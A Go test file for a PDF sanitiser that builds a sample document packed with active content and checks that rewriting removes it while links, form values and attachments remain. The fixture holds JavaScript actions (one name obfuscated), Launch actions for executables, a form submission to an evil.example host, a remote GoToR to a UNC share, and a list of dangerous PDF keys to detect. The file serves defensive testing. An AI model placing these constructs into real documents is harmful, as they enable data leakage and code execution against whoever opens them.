package pdf

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"

	"inkstream.dev/pkg/pdftest"
)

// activeDocument has what viewers run in every place that holds it, said in every way, and beside each what stays.
func activeDocument() []byte {
	return pdftest.PDFFromObjects(
		// 1: the catalogue.
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R /WS << /S /JavaScript /JS (save) >> >> /Names 7 0 R"+
			" /AcroForm 8 0 R /Outlines 12 0 R /NeedsRendering true >>",
		"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
		// 3: the page, with a script of its own and annotations.
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F1 20 0 R /JavaScript 20 0 R >> >>"+
			" /AA << /O << /S /J#61vaScript /JS (page) >> /C << /S /GoTo /D [3 0 R /Fit] >> >> /Annots [10 0 R 11 0 R 14 0 R 15 0 R 18 0 R] >>",
		"<< /Length 71 >>\nstream\nBT /F1 20 Tf 20 200 Td (one line) Tj /JavaScript 9 Tf (another) Tj ET  \nendstream",
		// 5: a harmless action with a chain behind it, of which one element is harmless too.
		"<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R << /S /URI /URI (https://kept.example/next) /Next << /S /Launch /F (chained.exe) >> >>] >>",
		"<< /S 16 0 R /JS 17 0 R >>",
		"<< /JavaScript << /Names [(start) 6 0 R] >> /EmbeddedFiles << /Names [(kept.txt) 19 0 R] >> >>",
		"<< /Fields [11 0 R] /XFA [(template) 17 0 R] /DA (/F1 10 Tf) >>",
		"<< /S /SubmitForm /F (https://evil.example/submit) >>",
		// 10: a link, its action and what comes after it.
		"<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /A << /S /URI /URI (https://kept.example/link) /Next 9 0 R >> >>",
		"<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (kept value) /Rect [10 40 90 60] /AA << /K << /S /JavaScript /JS (key) >> >> >>",
		"<< /First 13 0 R /Last 13 0 R /Count 1 >>",
		"<< /Title (kept title) /Parent 12 0 R /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) >> >>",
		"<< /Type /Annot /Subtype /RichMedia /Rect [100 10 200 90] /RichMediaContent << /Assets 7 0 R >> /AP << /N 21 0 R >> >>",
		"<< /Type /Annot /Subtype /Screen /P 3 0 R /Rect [210 10 290 90] /A << /S /Rendition /OP 0 /JS (screen) /R << /S /MR >> /AN 15 0 R >> /AP << /N 21 0 R >> >>",
		"/JavaScript",
		"<< /Length 12 >>\nstream\nscript('x');\nendstream",
		// 18: an annotation with a stream, which some viewers take for a dictionary.
		"<< /Type /Annot /Subtype /Link /Rect [100 100 140 140] /A << /S /Launch /F (stream.exe) >> /Length 4 >>\nstream\nkept\nendstream",
		"<< /Type /Filespec /F (kept.txt) /EF << /F 22 0 R >> >>",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		"<< /Type /XObject /Subtype /Form /BBox [0 0 10 10] /Length 21 >>\nstream\n1 0 0 rg 0 0 10 10 re f\nendstream",
		"<< /Type /EmbeddedFile /Length 15 >>\nstream\nkept attachment\nendstream",
	)
}

// What is written for others to open holds nothing that viewers run, whatever the original does; the rest is there as
// it was. qpdf says what a reader finds: it follows the references, unpacks, decrypts and spells names plainly.
func TestActiveContentIsRemoved(t *testing.T) {
	t.Parallel()
	requireTools(t, "qpdf", "pdftoppm")
	dir := t.TempDir()
	plain := filepath.Join(dir, "plain.pdf")
	if err := os.WriteFile(plain, activeDocument(), 0o600); err != nil {
		t.Fatal(err)
	}
	// Names that only viewers of scripts would understand, and texts of what goes. The font's name is none.
	gone := []string{"/S /JavaScript", "/JS ", "/Launch", "/GoToR", "/SubmitForm", "/Rendition", "/XFA", "/RichMediaContent", "/NeedsRendering",
		"script('x')", "evil"}
	kept := []string{"https://kept.example/next", "https://kept.example/link", "kept value", "kept title", "kept attachment", "/GoTo"}
	for _, tt := range []struct {
		name     string
		rewrite  []string // arguments of qpdf
		password string
	}{
		{name: "as it is"},
		{name: "object streams", rewrite: []string{"--object-streams=generate"}},
		{name: "RC4", rewrite: []string{"--allow-weak-crypto", "--encrypt", "word", "owner", "128", "--use-aes=n", "--"}, password: "word"},
		{name: "AES-256, object streams", rewrite: []string{"--object-streams=generate", "--encrypt", "word", "owner", "256", "--"}, password: "word"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			original := filepath.Join(t.TempDir(), "original.pdf")
			runTool(t, "qpdf", append(append([]string{"--warning-exit-0"}, tt.rewrite...), plain, original)...)
			for layers, name := range []string{"without recognised words", "with a text layer"} {
				l, err := writeLayer(t, sharedEngine(t), name, original, tt.password, layers)
				if err != nil {
					t.Fatal(err)
				}
				flat := filepath.Join(t.TempDir(), "flat.pdf")
				runTool(t, "qpdf", "--warning-exit-0", "--password="+tt.password, "--decrypt", "--qdf", "--object-streams=disable", l.path, flat)
				data, err := os.ReadFile(flat)
				if err != nil {
					t.Fatal(err)
				}
				for _, text := range gone {
					if bytes.Contains(data, []byte(text)) {
						t.Errorf("%s: %q is still there", name, text)
					}
				}
				for _, text := range kept {
					if !bytes.Contains(data, []byte(text)) {
						t.Errorf("%s: %q is gone", name, text)
					}
				}
				l.checkValid(t)
				if layers > 0 {
					l.checkPixels(t)
				}
			}
		})
	}
}

// A document without active content and without recognised words is copied as it is.
func TestHarmlessDocumentStaysAsItIs(t *testing.T) {
	t.Parallel()
	for _, f := range []pdftest.File{pdftest.BornDigital(2), pdftest.WithHazards(pdftest.URI, pdftest.EmbeddedFile)} {
		path := f.WriteFile(t)
		l, err := writeLayer(t, sharedEngine(t), f.Name, path, "", 0)
		if err != nil {
			t.Fatal(err)
		}
		if l.grown != 0 {
			t.Errorf("%s: grown by %d bytes, want 0", f.Name, l.grown)
		}
	}
	l, err := writeLayer(t, sharedEngine(t), "scripts", pdftest.WithHazards(pdftest.JavaScript).WriteFile(t), "", 0)
	if err != nil || l.grown == 0 {
		t.Errorf("a document with a script: grown by %d bytes, %v", l.grown, err)
	}
}
